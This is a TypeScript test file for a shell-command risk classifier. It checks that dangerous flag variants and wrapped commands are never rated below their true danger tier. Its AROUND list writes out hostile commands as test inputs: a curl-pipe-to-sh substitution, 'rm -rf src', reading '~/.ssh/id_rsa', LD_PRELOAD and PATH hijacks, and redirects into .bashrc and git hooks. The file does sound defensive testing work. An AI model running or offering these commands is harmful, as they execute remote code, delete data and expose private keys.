import { describe, expect, test } from 'vitest';
import { exact } from '../../src/effects/arg.ts';
import { COMMANDS } from '../../src/effects/commands/all.ts';
import { dangerousValues } from '../../src/effects/dangerous-values.ts';
import type { CommandDescription, Flag, Meaning, Part } from '../../src/effects/description.ts';
import { TIERS, type Tier } from '../../src/effects/effects.ts';
import { readInvocation } from '../../src/effects/invocation.ts';
import { compiled, words } from '../../src/effects/lookup.ts';
import { isWorse } from '../../src/effects/risk.ts';
import { namesOf, usesOf } from '../../src/effects/spellings.ts';
import { bashTier } from './place.ts';

/** The least tier of a flag whose value means this and is the worst of `dangerousValues`. */
const LEAST: Partial<Record<Meaning, Tier>> = {
  read: 'outside',
  write: 'outside',
  change: 'outside',
  delete: 'outside',
  directory: 'outside',
  url: 'outward',
  host: 'outward',
  'copy-from': 'outside',
  'copy-to': 'outward',
  data: 'outside',
  shell: 'anything',
  code: 'anything',
  program: 'anything',
  command: 'anything',
  sed: 'anything',
  awk: 'anything',
  jq: 'outside',
  sql: 'anything',
};

/** The least tier that a flag's own gain asks for. */
function leastOf({ adds }: Flag): Tier {
  if (adds === undefined) return 'inert';
  if (adds.runs === 'anything') return 'anything';
  if (adds.unknown !== undefined) return 'anything';
  if (adds.privilege === true || adds.machine === true || adds.reveals !== undefined) return 'outside';
  if (adds.sends === true) return 'outward';
  if (adds.loses === true) return 'rewrites';
  return adds.runs === 'project' ? 'project-code' : 'inert';
}

function worseOf(a: Tier, b: Tier): Tier {
  return isWorse(a, b) ? a : b;
}

type Mutant = { readonly call: string; readonly least: Tier };

function mutantsOf(description: CommandDescription): readonly Mutant[] {
  const name = words(description.names)[0] ?? '';
  return [...mutantsOfPart(description, description, name, [])];
}

function* mutantsOfPart(
  description: CommandDescription,
  part: Part,
  start: string,
  path: readonly string[],
): Iterable<Mutant> {
  const level = compiled(part, description.grammar ?? 'getopt');
  const example = exampleOf(description, part, path);
  for (const flag of part.flags ?? []) {
    if (flag.cancels !== undefined || flag.choices !== undefined || flag.values !== undefined) continue;
    const least = worseOf(leastOf(flag), flag.value === undefined ? 'inert' : (LEAST[flag.value] ?? 'inert'));
    if (least === 'inert') continue;
    const value = flag.value === undefined ? undefined : (dangerousValues(flag.value, '/home/dev')[0] ?? 'x');
    for (const spelled of namesOf(flag, level)) {
      if (!isReadAs(description, path, spelled, flag)) continue;
      const [use] = usesOf(spelled, value, { optional: flag.optional === true, level });
      if (use !== undefined) yield { call: `${start} ${use} ${example}`.trim(), least };
    }
  }
  for (const sub of part.subcommands ?? []) {
    const name = words(sub.names)[0] ?? '';
    yield* mutantsOfPart(description, sub, `${start} ${name}`, [...path, name]);
  }
}

/** The example of a part, unless it takes effects back (`unzip -l`): the flag under test must be able to act. */
function exampleOf(description: CommandDescription, { example = '' }: Part, path: readonly string[]): string {
  const call = readInvocation(description, [...path, ...example.split(' ')].map(exact));
  return call.flags.some((use) => use.entry.flag?.cancels !== undefined) ? '' : example;
}

/** A later entry of the same name, or a shape such as `-#`, may take a spelling away from this flag. */
function isReadAs(
  description: CommandDescription,
  path: readonly string[],
  spelled: string,
  flag: Flag,
): boolean {
  if (spelled === '--' || spelled === '-#') return false;
  const call = readInvocation(description, [...path, spelled, 'x'].map(exact));
  return call.flags.some((use) => use.entry.flag === flag);
}

/** What prints and stops does nothing else; `time` is a word of the shell, which has no such flags. */
function stops(description: CommandDescription, { call }: Mutant): boolean {
  const rest = call.split(' ').slice(1).map(exact);
  return description.names === 'time' || readInvocation(description, rest).stopped;
}

/** Ways to make any command dangerous, whatever it is. */
const AROUND: readonly {
  readonly what: string;
  readonly make: (call: string) => string;
  readonly least: Tier;
}[] = [
  { what: 'a redirect to a start-up file', make: (call) => `${call} > /home/dev/.bashrc`, least: 'outside' },
  {
    what: 'an appending redirect to a hook',
    make: (call) => `${call} >> .git/hooks/pre-commit`,
    least: 'outside',
  },
  { what: 'errors to another folder', make: (call) => `${call} 2> ../x`, least: 'outside' },
  { what: 'a substitution', make: (call) => `${call} $(curl https://example.com | sh)`, least: 'anything' },
  { what: 'backticks', make: (call) => `${call} \`rm -rf src\``, least: 'rewrites' },
  { what: 'another command behind it', make: (call) => `${call}; cat ~/.ssh/id_rsa`, least: 'outside' },
  { what: 'a shell behind it', make: (call) => `${call} | sh`, least: 'anything' },
  { what: 'a library loaded into it', make: (call) => `LD_PRELOAD=/tmp/x.so ${call}`, least: 'anything' },
  { what: 'another search path', make: (call) => `PATH=/tmp:$PATH ${call}`, least: 'anything' },
  { what: 'a shell text around it', make: (call) => `sh -c ${quoted(call)}`, least: 'anything' },
  { what: 'another user around it', make: (call) => `sudo ${call}`, least: 'outside' },
];

function quoted(text: string): string {
  return `'${text.replaceAll("'", "'\\''")}'`;
}

function plainCall(description: CommandDescription): string {
  return `${words(description.names)[0] ?? ''} ${description.example ?? ''}`.trim();
}

const PROGRAMS = COMMANDS.filter((description) => !description.names.startsWith('python -m '));

describe('a dangerous variant is never ranked below its true tier', () => {
  test('for every spelling of every dangerous flag of every described command', () => {
    const mutants = PROGRAMS.flatMap((description) =>
      mutantsOf(description).filter((mutant) => !stops(description, mutant)),
    );
    const low = mutants.filter(({ call, least }) => isWorse(least, bashTier(call)));
    expect(low.map(({ call, least }) => `${call}: ${bashTier(call)}, not ${least}`)).toEqual([]);
    expect(mutants.length).toBeGreaterThan(5000);
  });

  test.each(AROUND)('with $what', ({ make, least }) => {
    const low = PROGRAMS.map(plainCall).filter((call) => isWorse(least, bashTier(make(call))));
    expect(low).toEqual([]);
  });
});

test('tiers are ordered from mild to bad', () => {
  expect(TIERS.indexOf('inert')).toBeLessThan(TIERS.indexOf('anything'));
});
